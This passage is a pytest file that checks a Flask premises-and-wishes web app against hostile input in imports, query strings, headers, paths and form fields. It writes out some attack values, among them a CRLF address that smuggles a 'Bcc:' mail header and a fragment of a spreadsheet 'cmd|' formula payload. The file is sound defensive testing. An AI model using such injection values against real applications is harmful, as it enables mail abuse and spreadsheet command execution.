    each_hostile("the premises form", check, tidy=(Premises, OutboxMessage), values=hostile)


def csv_file(cells: dict[str, str]) -> bytes:
    """A premises CSV of one row, written the way a spreadsheet would (quoted as needed)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(cells)
    writer.writerow(cells.values())
    return buffer.getvalue().encode("utf-8")


def upload(client: FlaskClient, data: bytes, filename: str, run: bool, token: str | None = None):
    """Post `data` as a premises file to import (`run`) or only to check."""
    button = {"run": "Import"} if run else {"check": "Check only"}
    return client.post(
        "/moderation/premises/import",
        data={
            "csrf_token": token or csrf(client),
            "file": (io.BytesIO(data), filename),
            **button,
        },
        headers=ENGLISH,
        content_type="multipart/form-data",
    )


def test_an_import_file_of_hostile_texts_is_checked_as_text(app, hostile):
    factories.make_district("Belleville")
    db.session.commit()
    client, _ = signed_in(app, Role.MODERATOR)
    token = csrf(client)

    def check(value: str) -> None:
        before, mark = count(Premises), _max_id(Premises)
        row = {
            "reference": value,
            "address": value,
            "postcode": "75019",
            "city": "Paris",
            "district": "Belleville",
            "latitude": "48.8722",
            "longitude": "2.3810",
            "surface_m2": "45",
            "landlord_name": value,
            "landlord_email": "",
            "notes": value,
        }
        hostile_numbers = {
            **row,
            "reference": "X-1",
            "address": "1 rue",
            "latitude": value,
            "surface_m2": value,
            "district": value,
        }
        geojson = json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "geometry": {"type": "Point", "coordinates": [2.381, 48.8722]},
                        "properties": {
                            **row,
                            "reference": f"G{value}",
                            "latitude": None,
                            "longitude": None,
                            "surface_m2": value,
                        },
                    }
                ],
            }
        ).encode()

        for data, filename in (
            (csv_file(hostile_numbers), "numbers.csv"),
            (geojson, "premises.geojson"),
            (value.encode("utf-8", "surrogatepass"), "premises.csv"),
            (value.encode("utf-8"), "premises.geojson"),
        ):
            checked = upload(client, data, filename, run=False, token=token)
            no_server_error(checked)
            assert_inert(checked.get_data(as_text=True))
            assert count(Premises) == before, filename

        response = upload(client, csv_file(row), "premises.csv", run=True, token=token)
        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        if response.status_code != 303:
            assert response.status_code == 422
            assert count(Premises) == before
            return
        place = newest(Premises, mark)
        assert shown(place.address) == shown(value)
        page = get_inert(app.test_client(), f"/premises/{place.id}")
        assert shown(place.address) in page

    each_hostile("the premises import", check, tidy=(Premises,), values=hostile)


def test_shop_type_labels_are_text_in_pages_map_and_files(app, hostile):
    client, _ = signed_in(app, Role.ADMIN)
    token = csrf(client)
    names = {value: name for name, value in HOSTILE.items()}
    places: dict[str, tuple[str, int]] = {}  # string taken -> (its label, premises of its type)

    def check(value: str) -> None:
        before = count(ShopType)

        # A code is a URL segment and part of element ids: only what OpenStreetMap tags are made of.
        for code in (value, f"shop={value}", "shop=x/withdraw", 'shop="x"', "Shop=X"):
            refused = client.post(
                "/admin/shop-types",
                data={
                    "csrf_token": token,
                    "code": code,
                    "label_fr": "Essai",
                    "label_en": "Trial",
                    "group": "food",
                },
                headers=ENGLISH,
            )
            no_server_error(refused)
            assert refused.status_code == 422, code
            assert_inert(refused.get_data(as_text=True))
            assert count(ShopType) == before

        code = f"shop=hostile_{names[value]}"  # a type of its own for each string
        response = client.post(
            "/admin/shop-types",
            data={
                "csrf_token": token,
                "code": code,
                "label_fr": value,
                "label_en": value,
                "group": "food",
            },
            headers=ENGLISH,
        )
        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        if response.status_code != 303:
            assert response.status_code == 422
            assert count(ShopType) == before
            return
        shop_type = db.session.scalars(select(ShopType).where(ShopType.code == code)).one()
        label = shop_type.label_en
        assert shown(label) == shown(value)
        place = factories.make_premises()
        factories.make_support(place, code=code)
        db.session.commit()

        assert shown(label) in get_inert(client, f"/admin/shop-types/{shop_type.id}")
        assert shown(label) in get_inert(app.test_client(), f"/premises/{place.id}")
        report = get_inert(client, f"/landlord/premises/{place.id}/report")
        assert shown(label) in report
        assert_safe_csv(client.get(f"/landlord/premises/{place.id}/report.csv").data, label)
        places[value] = (label, place.id)

    def finish() -> None:
        # The pages, map and file of every premises and type, once all the labels are there.
        if not places:
            return
        visitor = app.test_client()
        for url in ("/", "/premises", "/area-wishes/new"):
            get_pages(visitor, url)
        geojson = json.loads(visitor.get("/api/premises.geojson", headers=ENGLISH).data)
        wrong = [
            names[value]
            for value, (label, place) in places.items()
            if feature_of(geojson, place)["properties"]["top1_label"] != label
        ]
        assert wrong == [], f"the map names another type for {wrong}"
        cells = {
            cell for row in assert_safe_csv(visitor.get("/api/demand.csv").data) for cell in row
        }
        missing = [
            names[value] for value, (label, _) in places.items() if csv_cell(label) not in cells
        ]
        assert missing == [], f"no cell of the demand file holds {missing}"

    each_hostile("shop-type labels", check, finish=finish, values=hostile)


# Links and keys: the landlord's let form, the unsubscribe link, the report key


def test_hostile_keys_and_let_forms_are_refused_without_a_change(app, hostile):
    landlords = numbers(1)

    def check(value: str) -> None:
        landlord = f"owner{next(landlords)}@example.org"
        place = factories.make_premises(landlord_email=landlord)
        db.session.commit()
        client = app.test_client()
        key = report_key(place, app_settings())
        q = quote(value, safe="")

        for url in (
            f"/landlord/premises/{place.id}/report?key={q}",
            f"/landlord/premises/{place.id}/report.csv?key={q}",
            f"/landlord/premises/{place.id}/report.pdf?key={q}",
            f"/landlord/premises/{place.id}/let?key={q}",
            f"/landlord/unsubscribe/{q}",
            f"/notifications/stop/{q}",
            f"/supports/confirm/{q}",
            f"/auth/verify/{q}",
            f"/auth/reset/{q}",
        ):
            response = client.get(url, headers=ENGLISH)
            no_server_error(response)
            assert response.status_code in (400, 404, 410), (url, response.status_code)
            assert_inert(response.get_data(as_text=True))
        for url in (
            f"/landlord/unsubscribe/{q}",
            f"/notifications/stop/{q}",
            f"/supports/confirm/{q}",
        ):
            response = client.post(url, data={"action": value})
            assert response.status_code in (400, 404), url

        # The landlord's link, with a hostile shop type and date: refused, the premises unchanged.
        let_form = client.get(f"/landlord/premises/{place.id}/let?key={key}", headers=ENGLISH)
        token = PageReader(let_form.get_data(as_text=True)).inputs["csrf_token"]
        for data in (
            {"shop_type": value, "let_on": "2024-03-01"},
            {"shop_type": "shop=bakery", "let_on": value},
        ):
            response = client.post(
                f"/landlord/premises/{place.id}/let?key={key}",
                data={"csrf_token": token, **data},
                headers=ENGLISH,
            )
            no_server_error(response)
            assert response.status_code == 422, data
            assert_inert(response.get_data(as_text=True))
        db.session.expire_all()
        assert db.session.get(Premises, place.id).let_shop_type_id is None

        # A hostile action on a real unsubscribe link stops the summaries, as any one-click POST
        # does.
        good = unsubscribe_key(landlord, app_settings())
        response = client.post(
            f"/landlord/unsubscribe/{good}", data={"action": value}, headers=HTMX
        )
        assert response.status_code == 200
        assert_inert(response.get_data(as_text=True))

    each_hostile(
        "report keys, unsubscribe links and let forms", check, tidy=(Premises,), values=hostile
    )


# Every filter in a query string, every header a browser or htmx sends, every path segment

# (role, URL) with {v} standing for the hostile value, URL-encoded. One line per GET filter, one
# test case per line.
QUERY_URLS: list[tuple[str, str]] = [
    ("visitor", "/?type={v}&group={v}&district={v}"),
    ("visitor", "/premises?type={v}&group={v}&district={v}&sort={v}&page={v}"),
    ("visitor", "/premises?page={v}"),
    ("visitor", "/api/premises.geojson?type={v}&district={v}"),
    ("visitor", "/api/area-wishes.geojson?type={v}"),
    ("visitor", "/area-wishes/new?latitude={v}&longitude={v}"),
    ("visitor", "/language/{v}?next={v}"),
    ("visitor", "/language/en?next={v}"),
    ("visitor", "/auth/login?next={v}"),
    ("visitor", "/shops?q={v}&type={v}&group={v}&district={v}&page={v}"),
    ("visitor", "/api/shops.geojson?type={v}&group={v}&district={v}"),
    ("visitor", "/gaps?type={v}&group={v}&district={v}"),
    ("visitor", "/api/gaps.geojson?type={v}"),
    ("visitor", "/opportunities?type={v}&group={v}&district={v}"),
    ("visitor", "/api/opportunities.csv?type={v}&group={v}&district={v}&variant={v}"),
    ("visitor", "/stats?district={v}&period={v}"),
    ("visitor", "/premises/1/evidence.pdf?type={v}"),
    ("resident", "/wishes/1/report?next={v}"),
    ("moderator", "/moderation/?page={v}"),
    ("moderator", "/moderation/premises?q={v}&status={v}&district={v}&sort={v}&page={v}"),
    ("moderator", "/moderation/audit?actor={v}&action={v}&object_type={v}&since={v}&until={v}"),
    ("moderator", "/moderation/audit.csv?actor={v}&action={v}&since={v}"),
    ("moderator", "/moderation/outbox?status={v}&page={v}"),
    ("moderator", "/moderation/shops?q={v}&page={v}"),
    ("moderator", "/moderation/visibility?q={v}&level={v}&district={v}"),
    ("moderator", "/moderation/visibility.csv?q={v}&level={v}"),
    ("moderator", "/moderation/corrections?status={v}"),
    ("admin", "/admin/users?q={v}&role={v}&state={v}&page={v}"),
]


def header_safe(value: str) -> str:
    """`value` as an HTTP header can carry it: latin-1 bytes, no line breaks nor NUL."""
    raw = value.encode("utf-8").decode("latin-1")
    return "".join(ch for ch in raw if ch not in "\r\n\x00")


@pytest.fixture
def premises_and_wish(app) -> tuple[int, int]:
    """The ids of a premises and of a published wish on it, for the URLs that name them."""
    place = factories.make_premises()
    wish = factories.make_wish(place, comment="Une boulangerie")
    db.session.commit()
    return place.id, wish.id


def client_of(app, role: str) -> FlaskClient:
    """A new client: a visitor's, or signed in as a new user of `role`."""
    return app.test_client() if role == "visitor" else signed_in(app, role)[0]


@pytest.mark.parametrize(("role", "template"), QUERY_URLS, ids=[url for _, url in QUERY_URLS])
def test_hostile_query_strings_never_break_a_page(app, premises_and_wish, role, template):
    _, wish_id = premises_and_wish

    def check(value: str) -> None:
        # A new client for each string: no language cookie nor message left by the one before.
        client = client_of(app, role)
        v = quote(value, safe="")
        url = template.replace("{v}", v).replace("/wishes/1/", f"/wishes/{wish_id}/")
        for headers in (ENGLISH, HTMX, {**HTMX, "Accept-Language": header_safe(value)}):
            response = client.get(url, headers=headers)
            no_server_error(response)
            if response.mimetype == "text/html":
                assert_inert(response.get_data(as_text=True), url)
            location = response.headers.get("Location", "")
            assert not location.lower().startswith(("javascript:", "//", "http")), location

    each_hostile(f"the query string of {template} ({role})", check)


# The pages a resident reads with every header a browser or htmx sends set to a hostile value.
HEADER_PAGES = ["/", "/premises/{premises}", "/premises", "/auth/login", "/me/wishes"]


@pytest.mark.parametrize("page", HEADER_PAGES)
def test_hostile_headers_never_break_a_page(app, premises_and_wish, page):
    premises_id, _ = premises_and_wish
    url = page.replace("{premises}", str(premises_id))

    def check(value: str) -> None:
        client = client_of(app, "resident")
        header = header_safe(value)
        hostile_headers = {
            "Accept-Language": header,
            "HX-Request": header,
            "HX-Current-URL": header,
            "HX-Target": header,
            "HX-Trigger": header,
            "HX-Trigger-Name": header,
            "HX-Prompt": header,
            "HX-History-Restore-Request": header,
            "HX-Boosted": header,
            "X-Requested-With": header,
            "If-None-Match": header,
            "Referer": header,
        }
        for headers in (hostile_headers, {**hostile_headers, "HX-Request": "true"}):
            response = client.get(url, headers=headers)
            no_server_error(response)
            assert_inert(response.get_data(as_text=True), url)

    each_hostile(f"the headers of {page}", check)


def test_hostile_codes_in_the_paths_of_actions_are_refused_without_a_change(app, premises_and_wish):
    premises_id, _ = premises_and_wish

    def check(value: str) -> None:
        resident = client_of(app, "resident")
        v = quote(value, safe="")
        token = csrf(resident)
        supports = count(Wish)
        for url in (
            f"/premises/{premises_id}/supports/{v}",
            f"/premises/{premises_id}/supports/{v}/withdraw",
            f"/area-wishes/{v}/withdraw",
        ):
            for headers in (ENGLISH, HTMX):
                response = resident.post(
                    url, data={"csrf_token": token, "next": value}, headers=headers
                )
                no_server_error(response)
                assert response.status_code in (400, 404, 405), (url, response.status_code)
        assert count(Wish) == supports

    each_hostile("path segments of actions", check)


# Forms by the table: each line is one field of one form, and the pages that show what it got.
# A new form joins the test with one line per field. The page's own form gives the other fields
# their current (valid) values, so that the hostile value alone decides the answer.


@dataclass(frozen=True)
class Surface:
    """One field of one form: who fills it, on which page, and where its value shows after."""

    role: str | None  # None: a visitor
    page: str  # the page holding the form; {shop}, {premises} and {wish} name rows of the test
    form: str  # CSS selector of the form on that page
    field: str
    readers: tuple[tuple[str | None, str], ...] = ()  # (role, URL) showing the saved value
    shown: bool = True  # False when the value is reformatted (a phone number, a web address)


SHOP_FORM = "form.shop-form"
SHOP_READERS = (
    (None, "/shops"),
    (None, "/shops/{shop}"),
    (None, "/api/shops.geojson"),
    ("moderator", "/moderation/shops"),
    ("moderator", "/moderation/shops/{shop}"),
    ("moderator", "/moderation/visibility"),
    ("moderator", "/moderation/visibility.csv"),
)
CORRECTION_FORM = "form[action$='/correction']"
CORRECTION_READERS = (("moderator", "/moderation/corrections"),)
SURFACES: list[Surface] = [
    # The shops directory (issue #6).
    Surface(None, "/shops/{shop}/correction", CORRECTION_FORM, "name", CORRECTION_READERS),
    Surface(None, "/shops/{shop}/correction", CORRECTION_FORM, "email", CORRECTION_READERS),
    Surface(None, "/shops/{shop}/correction", CORRECTION_FORM, "message", CORRECTION_READERS),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "name", SHOP_READERS),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "address", SHOP_READERS),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "city", SHOP_READERS),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "phone", SHOP_READERS, False),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "email", SHOP_READERS, False),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "website", SHOP_READERS, False),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "social_url", SHOP_READERS, False),
    Surface("moderator", "/moderation/shops/{shop}", SHOP_FORM, "opening_hours", SHOP_READERS),
    Surface(
        "moderator",
        "/moderation/shops/{shop}",
        "form.contact-form",
        "note",
        (("moderator", "/moderation/shops/{shop}"),),
    ),
    # The earlier forms, also covered one by one above.
    Surface(
        "moderator",
        "/moderation/premises/{premises}/edit",
        "form[action$='/edit']",
        "notes",
        (("moderator", "/moderation/premises/{premises}/edit"),),
    ),
    Surface(
        "resident",
        "/premises/{premises}",
        "form[action$='/wishes']",
        "comment",
        (("resident", "/me/wishes"),),
    ),
]


def form_values(soup: BeautifulSoup, selector: str) -> tuple[str, dict[str, str]]:
    """The action and the current values of the form `selector`, as a browser would send them."""
    form = soup.select_one(selector)
    assert form is not None, selector
    values: dict[str, str] = {}
    # find_all rather than CSS selectors: the same fields in the same order, ten times faster.
    for field in form.find_all(["input", "select", "textarea"], attrs={"name": True}):
        name, kind = field["name"], field.get("type", "text")
        if field.name == "textarea":
            values[name] = field.get_text()
        elif field.name == "select":
            chosen = field.find("option", selected=True) or field.find("option")
            values[name] = chosen.get("value", chosen.get_text()) if chosen else ""
        elif kind in ("checkbox", "radio"):
            if field.has_attr("checked"):
                values[name] = field.get("value", "y")
        elif kind not in ("submit", "button", "file", "image", "reset"):
            values[name] = field.get("value", "")
    return form["action"], values


def _surface_id(surface: Surface) -> str:
    return f"{surface.page.split('/')[1]}-{surface.form}-{surface.field}"


def shown_in(value: str, texts: list[str], others: list[str]) -> bool:
    """Whether `value` shows in one of `texts` on its own, not only inside one of the `others`.

    A page listing every string holds "-2+3+cmd|..." and so "+cmd|..." too: that says nothing of
    where "+cmd|..." itself went.
    """
    target = shown(value)
    covers = [shown(other) for other in others if other != value and target in shown(other)]
    for text in texts:
        for cover in covers:
            text = text.replace(cover, "\x00")
        if target in text:
            return True
    return False


@pytest.mark.parametrize("surface", SURFACES, ids=_surface_id)
def test_every_field_of_the_table_takes_hostile_text_as_text(app, surface: Surface, hostile):
    # Rows of their own for each string this case sends, so that the lists (readers without a row
    # in their URL) are read once, after all the strings, and show them all.
    factories.make_district("Belleville")
    rows: dict[str, dict[str, str]] = {}
    for value in hostile.values():
        place = factories.make_premises()
        shop = factories.make_shop(district=factories.make_district("Belleville"))
        wish = factories.make_wish(place, comment="Une boulangerie")
        rows[value] = {"{shop}": str(shop.id), "{premises}": str(place.id), "{wish}": str(wish.id)}
    db.session.commit()

    def url(template: str, value: str) -> str:
        for placeholder, row_id in rows[value].items():
            template = template.replace(placeholder, row_id)
        return template

    clients: dict[str | None, FlaskClient] = {None: app.test_client()}
    for role in {surface.role, *(role for role, _ in surface.readers)} - {None}:
        clients[role] = signed_in(app, role)[0]
    client = clients[surface.role]
    own_readers = [(role, reader) for role, reader in surface.readers if "{" in reader]
    lists = [(role, reader) for role, reader in surface.readers if "{" not in reader]
    texts: dict[str, list[str]] = {}  # the strings the form took -> the text of their own pages

    def read(role: str | None, reader: str) -> list[str]:
        answer = clients[role].get(reader, headers=ENGLISH)
        no_server_error(answer)
        assert answer.status_code == 200, (reader, answer.headers.get("Location"))
        if answer.mimetype == "text/csv":
            assert_safe_csv(answer.data)
            return []
        if "json" in answer.mimetype:
            return json_strings(json.loads(answer.data))
        return get_pages(clients[role], reader, page=answer)

    def check(value: str) -> None:
        page = client.get(url(surface.page, value), headers=ENGLISH)
        assert page.status_code == 200
        action, values = form_values(BeautifulSoup(page.data, "html.parser"), surface.form)
        for headers in (ENGLISH, HTMX):
            response = client.post(action, data={**values, surface.field: value}, headers=headers)
            no_server_error(response)
            assert response.status_code in (200, 204, 303, 409, 422), response.status_code
            assert_inert(response.get_data(as_text=True))
        if response.status_code == 422:
            return
        texts[value] = [
            text for role, reader in own_readers for text in read(role, url(reader, value))
        ]

    def finish() -> None:
        if not texts:
            return
        listed = [text for role, reader in lists for text in read(role, reader)]
        missing = [
            name
            for name, value in HOSTILE.items()
            if value in texts
            and surface.shown
            and value.isprintable()
            and len(value) < 100
            and not shown_in(value, texts[value] + listed, list(texts))
        ]
        assert missing == [], f"{surface.field}: taken, shown by no reader: {missing}"

    each_hostile(
        f"the field {surface.field!r} of {surface.page}", check, finish=finish, values=hostile
    )


def test_a_summary_subject_stays_one_line_whatever_the_stored_address(app):
    # Rows written before the premises service joined broken lines (or by hand) still hold them.
    place = factories.make_premises(
        address="12 rue X\r\nBcc: victim@example.org\u2028y", landlord_email="owner@example.org"
    )
    factories.make_support(place)
    db.session.commit()

    message = report_mail.queue_summary(place, app_settings(), force=True)

    assert message is not None
    assert message.subject.splitlines() == [message.subject]
    email = outbox.build_email(message, "Wishboard <noreply@example.org>")
    assert email["Bcc"] is None


def test_a_premises_address_typed_on_several_lines_is_kept_on_one(app):
    factories.make_district("Belleville")
    db.session.commit()
    client, _ = signed_in(app, Role.MODERATOR)

    response = client.post(
        "/moderation/premises/new",
        data=premises_form(client, address="12 rue X\r\n\tBcc: y", notes="Line 1\r\nLine 2"),
        headers=ENGLISH,
    )

    assert response.status_code == 303
    place = db.session.scalars(select(Premises)).one()
    assert place.address == "12 rue X Bcc: y"
    assert place.notes == "Line 1\r\nLine 2"  # notes are several lines by nature


def test_a_rejection_reason_is_text_in_the_queue_and_the_authors_e_mail(app, hostile):
    client, _ = signed_in(app, Role.MODERATOR)
    token = csrf(client)

    def check(value: str) -> None:
        wish = factories.make_wish(comment="Un primeur", status=WishStatus.PENDING)
        db.session.commit()
        messages, sent = _max_id(OutboxMessage), count(OutboxMessage)
        queue = BeautifulSoup(client.get("/moderation/", headers=ENGLISH).data, "html.parser")
        field = queue.select_one(f"form[action$='/{wish.id}/reject'] [name$='reason_text']")
        prefix = field["name"].removesuffix("reason_text")

        response = client.post(
            f"/moderation/wishes/{wish.id}/reject",
            data={
                "csrf_token": token,
                f"{prefix}reason": "other",
                f"{prefix}reason_text": value,
            },
            headers=HTMX,
        )

        no_server_error(response)
        assert_inert(response.get_data(as_text=True))
        db.session.expire_all()
        if response.status_code == 422:
            assert db.session.get(Wish, wish.id).status is WishStatus.PENDING
            assert count(OutboxMessage) == sent
            return
        assert db.session.get(Wish, wish.id).status is WishStatus.REJECTED
        message = newest(OutboxMessage, messages)
        assert_email_safe(message, value.strip())

    # Deleting the wish's premises takes a refused (still pending) wish out of the queue.
    each_hostile("a rejection's reason", check, tidy=(Premises,), values=hostile)
